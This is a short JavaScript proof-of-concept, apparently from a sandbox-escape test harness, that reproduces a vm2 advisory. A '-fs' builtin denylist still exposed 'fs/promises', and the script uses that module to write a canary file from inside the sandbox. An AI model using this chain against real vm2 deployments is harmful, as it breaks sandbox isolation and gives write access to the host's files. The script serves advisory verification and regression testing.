// Source: vm2 advisory GHSA-6rh5-qq4q-97xh (test/ghsa/GHSA-6rh5-qq4q-97xh/ in vm2's repository; fixed after vm2 3.11.2, by 3.12.2): `builtin: ["*", "-fs"]` still exposed `fs/promises` (and other subpath siblings).
// The chain below follows the advisory's repro.js, or vm2's lib/ comment for it where the repro was not read.
// NodeVM only: the advisory needs NodeVM's `require`. A scenario runs in a plain vm2 VM with no
// `require`, `module` or `process`, so the PoC first looks for every way to a `require` the public
// PoCs use (`__wr.eachRequire`), then runs the advisory's chain with whatever it found.
// Tried: require('fs/promises').writeFile(canary).
const out = {};
await __wr.eachRequire(out, async (req, label) => {
  try {
    await req('fs/promises').writeFile(query.canaryFile, 'fs/promises');
  } catch (e) { out[label + 'Chain'] = String(e && e.message).slice(0, 60); }
});
return out;
